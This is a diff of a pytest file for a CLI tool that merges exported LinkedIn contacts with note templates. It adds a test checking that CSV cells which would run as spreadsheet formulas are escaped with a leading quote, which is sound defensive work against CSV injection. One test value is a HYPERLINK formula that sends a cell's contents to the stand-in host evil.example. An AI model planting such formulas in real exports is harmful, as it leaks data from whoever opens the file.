@@ -12,7 +12,7 @@ from pathlib import Path
 import pexpect
 import pytest
 
-from tests.helpers import SAMPLES, run_cli
+from tests.helpers import SAMPLES, run_cli, template
 
 #: LinkedIn's Connections.csv as exported: a BOM, the "Notes:" preamble, CRLF, quoted commas. Invented people.
 CONNECTIONS = (
@@ -314,3 +314,28 @@ def test_company_names_filled_by_the_merge_are_no_link_or_placeholder(tmp_path: 
     assert (
         "[link]" in lint.stdout + lint.stderr and "[placeholder]" in lint.stdout + lint.stderr
     )  # the linter alone still says so
+
+
+#: Cells a spreadsheet would run as formulas (OWASP's list of first characters), as a hostile export could carry them.
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+
+
+def test_csv_cells_that_start_like_formulas_are_written_as_text(tmp_path: Path):
+    """Every cell (input columns, header, the note itself) that would run as a formula gets a leading quote."""
+    template(tmp_path / "tpl", "{{ event }}: great meeting you there, {{ first_name }}.", id="event-first")
+    header = ["First Name", "Event", "=Header", *(f"c{i}" for i in range(len(FORMULAS)))]
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerows([header, ["Ana", "@PyCon", "x", *FORMULAS]])
+    source = write(tmp_path / "people.csv", buffer.getvalue())
+    args = ("merge", str(source), "-t", "event-first", "--templates-dir", str(tmp_path / "tpl"), "--no-record")
+    result = run_cli(*args, "--select", "already-invited")
+    assert result.exit_code == 0, result.output
+    [written_header, row] = list(csv.reader(io.StringIO(result.stdout)))
+    assert written_header[:3] == ["First Name", "Event", "'=Header"]
+    assert row[:2] == ["Ana", "'@PyCon"]
+    assert row[3 : 3 + len(FORMULAS)] == [f"'{cell}" for cell in FORMULAS]
+    note, length = row[3 + len(FORMULAS)], row[4 + len(FORMULAS)]
+    assert note == "'@PyCon: great meeting you there, Ana." and int(length) == len(note) - 1  # the note's own length
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written_header + row)
+    as_jsonl = json.loads(run_cli(*args, "--select", "already-invited", "--format", "jsonl").stdout)
+    assert as_jsonl["note"] == "@PyCon: great meeting you there, Ana." and as_jsonl["columns"]["c0"] == FORMULAS[0]
